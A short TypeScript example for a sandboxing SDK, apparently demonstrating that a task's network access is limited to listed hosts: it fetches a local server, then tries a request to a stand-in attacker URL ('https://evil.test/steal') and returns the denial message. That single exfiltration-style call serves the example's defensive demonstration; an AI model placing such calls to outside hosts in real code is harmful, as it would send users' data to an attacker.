import { task } from "@capsule-run/sdk";

// Network access is denied unless a host is listed. Loopback and private addresses are refused
// even under "*", unless named literally, as 127.0.0.1 is here so the example can run offline
// against a local server:  npx capsule run examples/fetch.ts http://127.0.0.1:8000/
export const main = task(
  { name: "main", allowedHosts: ["127.0.0.1", "*.example.com"], timeout: "10s" },
  async (url?: string) => {
    const response = await fetch(url ?? "http://127.0.0.1:8000/");
    const body = new Uint8Array(await response.arrayBuffer());

    let denied = "";
    try {
      await fetch("https://evil.test/steal");
    } catch (error) {
      denied = (error as Error).message;
    }
    return { status: response.status, bytes: body.length, denied };
  },
);
